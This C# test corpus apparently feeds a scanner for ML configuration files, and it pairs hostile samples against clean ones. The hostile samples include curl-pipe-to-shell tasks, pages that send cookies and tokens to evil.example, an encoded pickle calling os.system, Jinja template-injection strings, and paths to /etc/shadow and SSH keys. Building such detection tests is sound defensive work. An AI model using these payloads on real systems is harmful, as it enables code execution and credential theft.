using System.Formats.Tar;
using System.Globalization;
using System.Security.Cryptography;
using System.Text;
using MlSecPol.Engine.Tests.Models.PyTorch;

namespace MlSecPol.Engine.Tests.Corpus;

/// <summary>Labelled settings, Modelfiles, pages, workflows and other texts around models.</summary>
internal static class SettingsCases
{
    private const string Pickle = "128,4,149,33,0,0,0,0,0,0,0,140,5,112,111,115,105,120,148,140,6,115,121,115,116,101,109,148,147,148,140,6,101,99,104,111,32,120,148,133,148,82,148,46";

    public static IEnumerable<CorpusCase> All() => [.. HostileSettings(), .. HostilePages(), .. HostileConfigurations(), .. CleanSettings(), .. CleanPages(), .. CleanConfigurations()];

    private static IEnumerable<CorpusCase> HostileSettings()
    {
        yield return Hostile("registered name that is a function of the system", "config.cfg", "[nlp]\nlang = \"en\"\n\n[components.x]\nfactory = \"x\"\n@misc = \"os.system\"\n");
        yield return Hostile("registered name in one line", "config.cfg", "[training.logger]\n@loggers=\"subprocess.Popen\"\n");
        yield return Hostile("vectors that are secrets", "config.cfg", "[paths]\nvectors_path = \"/etc/shadow\"\n");
        yield return Hostile("value that is a program", "settings.ini", "[run]\nhook = __import__('os').system('id')\n");
        yield return Hostile("continued value that is a command", "setup.cfg", "[tox]\ncommands =\n    echo a\n    curl http://a.example/x | sh\n");
        yield return Hostile("target in sections", "config.cfg", "[model]\n_target_ = os.system\ncommand = id\n");
        yield return Hostile("build package from elsewhere", "pyproject.toml", "[build-system]\nrequires = [\"setuptools\",\n  \"evil @ http://203.0.113.9/e.whl\"]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n");
        yield return Hostile("task that fetches and runs", "pyproject.toml", "[tool.pdm.scripts]\npost_install = \"curl http://a.example/x | sh\"\n");
        yield return Hostile("task of several lines", "pyproject.toml", "[tool.poe.tasks.a]\nshell = \"\"\"\necho\nwget -qO- http://a.example/x | bash\n\"\"\"\n");
        yield return Hostile("task in a table of one line", "pyproject.toml", "[tool.poe.tasks]\na = { cmd = \"bash -c 'curl http://a.example/x | sh'\" }\n");
        yield return Hostile("dependency by address", "pyproject.toml", "[tool.poetry.dependencies]\npython = \"^3.10\"\nx = { url = \"http://203.0.113.9/x.whl\" }\n");
        yield return Hostile("escapes in a text", "pyproject.toml", "[tool.a]\nb = \"\\u0063url http://a.example/x | sh\"\n");
        yield return Hostile("weights from an address", "Modelfile", "FROM http://203.0.113.9/m.gguf\nTEMPLATE \"\"\"{{ .Prompt }}\"\"\"\n");
        yield return Hostile("adapter that is a secret", "Modelfile", "FROM llama3\nADAPTER /root/.ssh/id_rsa\n");
        yield return Hostile("weights above that are of the system", "Modelfile", "FROM ../../../../etc/passwd\n");
        yield return Hostile("template of another renderer", "a.modelfile", "FROM llama3\nTEMPLATE \"\"\"\n{{ cycler.__init__.__globals__.os.getcwd() }}\n\"\"\"\n");
        yield return Hostile("letters that nobody sees", "Modelfile", "FROM llama3\nSYSTEM \"\"\"You help.\U000E0041\U000E0042\"\"\"\n");
    }

    private static IEnumerable<CorpusCase> HostilePages()
    {
        yield return Hostile("page that connects", "x.html", "<html><script>fetch(\"http://evil.example\")</script></html>");
        yield return Hostile("page that sends what the browser keeps", "x.html", "<!doctype html><html><body><script>\nnew Image().src = 'https://evil.example/?c=' + document.cookie;\n</script></body></html>");
        yield return Hostile("page that decodes and runs", "report.htm", "<html><script type=\"text/javascript\">eval(atob('YWxlcnQoMSk='))</script></html>");
        yield return Hostile("page that starts programs", "x.html", "<html><script>require('child_process').exec('id')</script></html>");
        yield return Hostile("handler of an event", "x.html", "<html><img src=x onerror=\"fetch('https://evil.example/'+localStorage.token)\"></html>");
        yield return Hostile("handler in entities", "x.html", "<html><img src=x onerror=\"fetch(&#39;https://evil.example/&#39;+document.cookie)\"></html>");
        yield return Hostile("address that is a script", "x.html", "<html><a href=\"javascript:eval(atob('YQ=='))\">a</a></html>");
        yield return Hostile("script of a bare address", "x.html", "<html><script src=\"http://203.0.113.9/x.js\"></script></html>");
        yield return Hostile("page that is a template", "template.html", "{{ cycler.__init__.__globals__.os.getcwd() }}");
        yield return Hostile("output of a notebook", "out.ipynb", """{"cells":[{"cell_type":"code","metadata":{},"outputs":[{"output_type":"display_data","data":{"text/html":["<script>fetch(\"http://evil.example/\"+document.cookie)</script>"]},"metadata":{}}],"source":["x=1"]}],"metadata":{},"nbformat":4,"nbformat_minor":5}""");
        yield return Hostile("script as output of a notebook", "out.ipynb", """{"cells":[{"cell_type":"code","metadata":{},"outputs":[{"output_type":"display_data","data":{"application/javascript":["eval(atob('YQ=='))"]},"metadata":{}}],"source":["x=1"]}],"metadata":{},"nbformat":4,"nbformat_minor":5}""");
        yield return Layer("template as a layer without a name", "{{ ''.__class__.__mro__[1].__subclasses__() }}", isHostile: true);
        yield return Hostile("template in a store of content", "sha256-" + new string('a', 64), "{%- set x = cycler.__init__.__globals__ -%}{{ x }}");
    }

    private static IEnumerable<CorpusCase> HostileConfigurations()
    {
        yield return Hostile("pickle as a list of numbers", "config.json", $$"""{"model_type":"x","state":[{{Pickle}}]}""");
        yield return Hostile("pickle as signed numbers", "data.json", "{\"a\":[1,2],\"state\":{\"type\":\"Buffer\",\"data\":[" + string.Join(',', Pickle.Split(',').Select(n => unchecked((sbyte)byte.Parse(n, CultureInfo.InvariantCulture)))) + "]}}");
        yield return Hostile("comment before the configuration", "config.json", "// made by hand\n{\"auto_map\":{\"AutoModel\":\"a/b--c.D\"},}");
        yield return Hostile("configuration that nests without end", "config.json", string.Concat(Enumerable.Repeat("{\"a\":", 5000)) + "1" + new string('}', 5000));
        yield return new CorpusCase("settings: MessagePack that nests without end", "m.msgpack", [.. Enumerable.Repeat((byte)0x91, 5000), 0], IsHostile: true);
        yield return new CorpusCase("settings: engine that claims more than there is", "m.engine", [.. "ptrt"u8, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 16, .. new byte[100]], IsHostile: true);
        yield return Hostile("model card with tags of objects", "README.md", "---\nlicense: mit\nx: !!python/object/apply:os.getcwd []\n---\n# hi\n");
        yield return Hostile("chart with an object of Python", "templates/a.yaml", "{{- if .Values.a }}\na: {{ .Values.b | quote }}\nb: !!python/object/apply:os.getcwd []\n{{- end }}\n");
        yield return Hostile("chart that reaches the interpreter", "a.yaml", "{% if x %}\na: {{ cycler.__init__.__globals__.os.getcwd() }}\n{% endif %}\n");
        yield return Hostile("workflow that reads the system", "workflow_api.json", """{"3":{"class_type":"LoadImage","inputs":{"image":"../../../../etc/passwd"}}}""");
        yield return Hostile("workflow whose class comes last", "workflow_api.json", """{"3":{"inputs":{"filename_prefix":"../../custom_nodes/x"},"class_type":"SaveImage"}}""");
        yield return Hostile("workflow of the editor", "workflow.json", """{"nodes":[{"id":1,"type":"LoadImage","widgets_values":["/etc/passwd","image"]}]}""");
        yield return Hostile("model of MLflow outside", "MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: ../../etc\n");
        yield return Hostile("PaddlePaddle program with Python", "inference.json", """{"base_code":{"magic":"pir","version":1,"trainable":false},"program":{"regions":[{"#":"region_0","blocks":[{"#":"block_0","args":[],"ops":[{"#":"1.py_func","A":[],"I":[],"O":[]}]}]}]}}""");
        yield return Hostile("PaddlePaddle program that saves", "inference.json", """{"base_code":{"magic":"pir","version":1},"program":{"regions":[{"#":"region_0","blocks":[{"#":"block_0","ops":[{"#":"1.relu_","A":[]},{"#":"1.save_combine","A":[{"N":"file_path","AT":{"#":"0.a_str","D":"/etc/x"}}]}]}]}]}}""");
        yield return Hostile("PaddlePaddle operator with a library, in a block of another", "m.json", """{"program":{"regions":[{"blocks":[{"ops":[{"#":"2.if","regions":[{"blocks":[{"ops":[{"#":"3.mine","A":[{"N":"p","AT":{"#":"0.a_str","D":"/tmp/x.so"}}]}]}]}]}]}]}]},"base_code":{"magic":"pir"}}""");
        yield return Hostile("Keras in YAML", "model.yaml", "class_name: Sequential\nconfig:\n- class_name: Lambda\n  config: {name: l, function: ['4wEAAAAAAAAAAAAAAAEAAAABAAAAQwAAAHMEAAAAfABTACkBTqkAKQHaAXhyAQAAAHIBAAAA+gM8eD7aCDxsYW1iZGE+AQAAAHMAAAAA', null, null], function_type: lambda}\n");
        yield return Hostile("Keras in YAML by an alias", "model.yaml", "backend: &f {class_name: function, module: os, config: system, registered_name: function}\nclass_name: Sequential\nconfig:\n- class_name: Dense\n  config: {units: 1, activation: *f}\n");
    }

    private static IEnumerable<CorpusCase> CleanSettings()
    {
        yield return Clean("pipeline of spaCy", "config.cfg", "[paths]\ntrain = null\nvectors = null\n\n[system]\ngpu_allocator = \"pytorch\"\n\n[nlp]\nlang = \"en\"\npipeline = [\"tok2vec\",\"ner\"]\ntokenizer = {\"@tokenizers\":\"spacy.Tokenizer.v1\"}\n\n[components.ner]\nfactory = \"ner\"\n\n[components.ner.model]\n@architectures = \"spacy.TransitionBasedParser.v2\"\n\n[initialize.before_init]\n@callbacks = \"customize_tokenizer\"\n\n[corpora.train]\n@readers = \"spacy.Corpus.v1\"\npath = ${paths.train}\n");
        yield return Clean("setup of a package", "setup.cfg", "[metadata]\nname = x\nurl = http://example.com/x\nlong_description = file: README.md\n\n[options]\ninstall_requires =\n    torch>=2\n    numpy\n\n[options.entry_points]\nconsole_scripts =\n    x = x.main:run\n[flake8]\nignore = E203,\n    W503\n");
        yield return Clean("network of Darknet", "yolov3.cfg", "[net]\nbatch=64\n\n[convolutional]\nbatch_normalize=1\nfilters=32\nactivation=leaky\n\n[convolutional]\nfilters = 64\n");
        yield return Clean("project", "pyproject.toml", "[build-system]\nrequires = [\"setuptools>=61\", \"wheel\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"x\"\ndependencies = [\n  \"torch>=2\", # comment\n  \"y @ git+https://github.com/a/y@v1\",\n]\n\n[project.urls]\nhomepage = \"http://example.com\"\n\n[project.scripts]\nx = \"x.main:run\"\n\n[tool.ruff]\nselect = [\"E\", \"F\"]\n\n[tool.pytest.ini_options]\naddopts = \"-q --strict-markers\"\n");
        yield return Clean("project that builds by its own code", "pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n\n[tool.hatch.build.hooks.custom]\npath = \"hatch_build.py\"\n");
        yield return Clean("tests of an environment", "tox.ini", "[tox]\nenvlist = py310\n[testenv]\ncommands =\n    pytest {posargs}\n    python -m build\n");
        yield return Clean("Modelfile", "Modelfile", "# a model\nFROM ./model.gguf\nADAPTER ./lora.gguf\nPARAMETER temperature 0.7\nPARAMETER stop \"<|im_end|>\"\nTEMPLATE \"\"\"{{ if .System }}<|im_start|>system\n{{ .System }}<|im_end|>\n{{ end }}{{ range .Messages }}{{ .Content }}{{ end }}\"\"\"\nSYSTEM \"\"\"You are a helpful assistant. Never run os.system or curl http://a | sh.\"\"\"\nLICENSE \"MIT\"\n");
        yield return Clean("Modelfile by name and by path of its maker", "Modelfile", "FROM hf.co/someone/model-GGUF:Q4_K_M\n");
        yield return Clean("Modelfile of a machine", "Modelfile.q4", "FROM /home/someone/models/model.gguf\n");
    }

    private static IEnumerable<CorpusCase> CleanPages()
    {
        yield return Clean("page with scripts of a library", "index.html", "<!DOCTYPE html><html><head><script src=\"https://cdn.plot.ly/plotly-2.30.0.min.js\"></script><script>window.MathJax = {};</script></head><body onload=\"init()\"><a href=\"javascript:void(0)\">a</a><svg xmlns=\"http://www.w3.org/2000/svg\"></svg><script>Plotly.newPlot('a', [{x: [1, 2]}]); localStorage.setItem('theme', 'dark'); fetch('/data.json').then(r => r.json());</script></body></html>");
        yield return Clean("page of a service on this machine", "demo.html", "<html><script>fetch('http://localhost:8000/v1/chat', {method: 'POST'}); const ws = new WebSocket('ws://127.0.0.1:1/x');</script></html>");
        yield return Clean("page of a server", "index.html", "<html><head><link href=\"{{ url_for('static', filename='a.css') }}\"></head><body>{% for m in messages %}<p>{{ m.content|e }}</p>{% endfor %}{{ request.path }}</body></html>");
        yield return Clean("page with a decoder", "index.html", "<html><script>var d = atob(x); function load(u) { return fetch(u); } eval(code);</script></html>");
        yield return Clean("page of a book", "layout.html", "{% extends '!layout.html' %}{% block footer %}{{ super() }}<script>window.x = localStorage.getItem('a'); fetch('https://a.example/b').then(r => r.text());</script>{% include social.html %}{% endblock %}");
        yield return Clean("recipe for an image", "base.j2", "{% import '_macros.j2' as common %}{% include 'parts/a.j2' %}FROM {{ __base_image__ | line }}\nRUN {{ common.cache('/var/cache') }}{{ expand(__options__) }}\n");
        yield return Hostile("recipe that reads another file", "base.j2", "{% include '/etc/passwd' %}");
        yield return Hostile("recipe that reaches the interpreter", "base.j2", "{{ cycler.__init__.__globals__.os.getcwd() }}");
        yield return Clean("page that is cut off", "index.html", "<html><body><img alt=\"a");
        yield return Clean("outputs of a notebook", "plots.ipynb", """{"cells":[{"cell_type":"code","metadata":{},"outputs":[{"output_type":"display_data","data":{"text/html":["<div id='a'></div><script src='https://cdn.plot.ly/plotly.min.js'></script>","<script>Plotly.newPlot('a', []);</script>"],"text/plain":["<Figure>"]},"metadata":{}}],"source":["fig.show()"]},{"cell_type":"markdown","metadata":{},"source":["<img src='https://a.example/b.png' onerror=\"this.hidden=true\">"]}],"metadata":{},"nbformat":4,"nbformat_minor":5}""");
        yield return Layer("template of a model as a layer", "{% for m in messages %}{{ '<|im_start|>' + m['role'] + m['content'] }}{% endfor %}", isHostile: false);
        yield return Layer("template in Go as a layer", "{{ if .System }}<|system|>{{ .System }}{{ end }}{{ range .Messages }}{{ .Content }}{{ end }}", isHostile: false);
        yield return Layer("licence as a layer", "MIT License\n\nPermission is hereby granted, free of charge\n", isHostile: false);
    }

    private static IEnumerable<CorpusCase> CleanConfigurations()
    {
        yield return Clean("model card", "README.md", "---\nlicense: mit\ntags:\n- a!!\n---\n# !!python/object/apply:os.system\n");
        yield return Clean("chart of Kubernetes", "deployment.yaml", "{{- if .Values.enabled -}}\napiVersion: apps/v1\nmetadata:\n  name: {{ include \"x.fullname\" . }}\n  labels: {{- include \"x.labels\" . | nindent 4 }}\nspec:\n  {{- with .Values.a }}\n  a: {{ toYaml . }}\n  {{- end }}\n  cmd: [\"sh\", \"-c\", {{ .Values.cmd }}]\n{{- end }}\n");
        yield return Clean("recipe in Jinja", "meta.yaml", "{% set version = environ['V'] %}\npackage:\n  name: x\n  version: {{ version }}\n{% for r in load_setup_py_data()['r'] %}\n  - {{ r }}\n{% endfor %}\n");
        yield return Clean("empty source", "__init__.py", string.Empty);
        yield return Clean("empty settings", "air.toml", string.Empty);
        yield return Clean("lists of numbers", "config.json", """{"model_type":"x","sizes":[128,256,512],"bytes":[128,4,0,1,2,3],"shape":[80,75,3,4,5],"levels":[120,156,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24,25],"more":[128,4,0,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24,25]}""");
        yield return Clean("settings with comments", "settings.json", "// editor\n{\n  \"python.defaultInterpreterPath\": \"/usr/bin/python3\", // x\n}\n");
        yield return Clean("plain workflow", "workflow_api.json", """{"3":{"inputs":{"seed":1,"model":["4",0],"text":"a cat / a dog ..","filename_prefix":"ComfyUI/img","ckpt_name":"sd_xl_base_1.0.safetensors","lora_name":"style\\a.safetensors"},"class_type":"KSampler"}}""");
        yield return Clean("plain model of MLflow", "MLmodel", "artifact_path: model\nflavors:\n  python_function:\n    code: code\n    data: model.pkl\n    env:\n      conda: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model\n  sklearn:\n    pickled_model: model.pkl\n");
        yield return Clean("plain PaddlePaddle program", "inference.json", """{"base_code":{"magic":"pir","version":1,"trainable":false},"program":{"regions":[{"#":"region_0","blocks":[{"#":"block_0","args":[],"ops":[{"#":"p","A":[0,1,1,"conv2d_0.w_0"],"DA":[],"O":{"%":1}},{"#":"1.data","A":[{"N":"name","AT":{"#":"0.a_str","D":"x"}}],"I":[],"O":[]},{"#":"1.conv2d","A":[{"N":"data_format","AT":{"#":"0.a_str","D":"NCHW"}}]},{"#":"1.fetch","A":[{"N":"name","AT":{"#":"0.a_str","D":"fetch_name_0"}}]}]}]}]}}""");
        yield return Clean("plain Keras in YAML", "model.yaml", "backend: tensorflow\nclass_name: Sequential\nconfig:\n  name: sequential\n  layers:\n  - class_name: Dense\n    config: {name: dense, units: 4, activation: relu, kernel_initializer: {class_name: GlorotUniform, config: {seed: null}}}\nkeras_version: 2.3.1\n");
        yield return Clean("classes in YAML of others", "labels.yaml", "- class_name: cat\n  id: 1\n- class_name: dog\n  id: 2\n");
    }

    private static CorpusCase Layer(string name, string content, bool isHostile) => new("settings: " + name, "image.tar", TorchSamples.TarOf(tar =>
    {
        var bytes = Encoding.UTF8.GetBytes(content);
        tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "blobs/sha256/" + Convert.ToHexStringLower(SHA256.HashData(bytes))) { DataStream = new MemoryStream(bytes) });
    }), isHostile);

    private static CorpusCase Clean(string name, string file, string text) => new("settings: " + name, file, Encoding.UTF8.GetBytes(text), false);

    private static CorpusCase Hostile(string name, string file, string text) => new("settings: " + name, file, Encoding.UTF8.GetBytes(text), true);
}
